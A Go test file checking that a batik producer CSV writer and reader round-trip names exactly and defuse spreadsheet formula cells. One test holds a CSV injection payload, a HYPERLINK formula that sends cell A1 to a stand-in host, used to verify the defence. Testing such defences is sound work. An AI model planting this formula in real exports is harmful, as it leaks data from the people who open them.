package batik

import (
	"bytes"
	"strings"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Every valid producer written is read back as itself, apostrophes and
// formula characters included.
func TestWriteReadCSVApostrophes(t *testing.T) {
	for _, name := range []string{"'=1+1", "'-5", "''=x", "'", "''", "'''", "'Ndalem", "'@home", "Batik 'x'", "=x'"} {
		p := validProducer()
		p.Name = name
		if name == "=x'" {
			require.Error(t, p.Validate())
			continue
		}
		require.NoError(t, p.Validate(), "%q", name)
		var buf bytes.Buffer
		require.NoError(t, WriteProducersCSV(&buf, []Producer{p}))
		got, err := ReadProducersCSV(&buf)
		require.NoError(t, err, "%q", name)
		assert.Equal(t, []Producer{p}, got, "%q", name)
	}
}

// The writer defuses cells a spreadsheet would run as formulas (OWASP CSV
// injection) and the reader undoes it; validation refuses such names.
func TestWriteProducersCSVInjection(t *testing.T) {
	p := validProducer()
	p.Name = `=HYPERLINK("http://x.example/?"&A1,"klik")`
	var buf strings.Builder
	require.NoError(t, WriteProducersCSV(&buf, []Producer{p}))
	assert.Contains(t, buf.String(), `"'=HYPERLINK(""http://x.example/?""&A1,""klik"")"`)
	for _, lead := range []string{"=", "+", "-", "@", "\t", "\r"} {
		assert.Equal(t, "'"+lead+"x", safeCell(lead+"x"))
	}
	assert.Equal(t, "x=", safeCell("x="))
	_, err := ReadProducersCSV(strings.NewReader(buf.String()))
	assert.Equal(t, []string{"2:2:name:notformula"}, rowTags(t, err))
	require.ErrorIs(t, p.Validate(), ErrInvalid)
}

// What the writer writes, the reader reads back exactly, quotes, commas
// and semicolons inside cells included. Line breaks inside a name do not
// travel: validation refuses control characters in names, and encoding/csv
// would turn a quoted CRLF into LF.
func TestWriteReadProducersCSVExact(t *testing.T) {
	p := validProducer()
	p.Name = "Batik \"Pagi, Sore\"; Pekalongan"
	p.Capabilities[1].UnitCost = decimal.RequireFromString("95000.5")
	var buf strings.Builder
	require.NoError(t, WriteProducersCSV(&buf, []Producer{p}))
	got, err := ReadProducersCSV(strings.NewReader(buf.String()))
	require.NoError(t, err)
	require.Len(t, got, 1)
	assert.Equal(t, p, got[0])
	assertDecimal(t, "95000.5", got[0].Capabilities[1].UnitCost)
}

func TestWriteReadProducersRoundTrip(t *testing.T) {
	ps := []Producer{validProducer(), {ID: "PKL-7", Name: "Batik \"Pagi, Sore\"", Region: "33.26",
		Capabilities: []Capability{{Technique: Printing, Grade: Kasar, PerWeek: 0, UnitCost: decimal.NewFromInt(0)}}}}
	var buf bytes.Buffer
	require.NoError(t, WriteProducersCSV(&buf, ps))
	got, err := ReadProducersCSV(&buf)
	require.NoError(t, err)
	assert.Equal(t, ps, got)
}

// TestWriteProducersCSVNoCapabilities pins the row of a producer with no
// capabilities: its cells with the capability columns blank, and the
// producers after it still written.
func TestWriteProducersCSVNoCapabilities(t *testing.T) {
	bare := validProducer()
	bare.ID, bare.Capabilities = "BARE-1", nil
	var out strings.Builder
	require.NoError(t, WriteProducersCSV(&out, []Producer{bare, validProducer()}))
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	require.Len(t, lines, 4) // header, the bare producer, two capabilities
	assert.Equal(t, "BARE-1,Batik Sekar Jagad,1234567890123,33.72,,,,", lines[1])
	assert.True(t, strings.HasPrefix(lines[2], "SLO-01,"), lines[2])
	assert.True(t, strings.HasPrefix(lines[3], "SLO-01,"), lines[3])
}
